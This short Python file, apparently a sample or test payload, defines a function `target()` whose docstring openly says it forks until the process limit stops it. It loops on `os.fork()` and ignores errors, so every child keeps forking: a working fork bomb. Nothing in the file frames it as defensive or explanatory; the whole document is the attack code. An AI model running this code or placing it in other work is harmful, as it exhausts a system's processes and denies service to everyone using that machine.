"""Forks until the process limit stops it; the children keep forking too."""
import os


def target():
    while True:
        try:
            os.fork()
        except OSError:
            pass
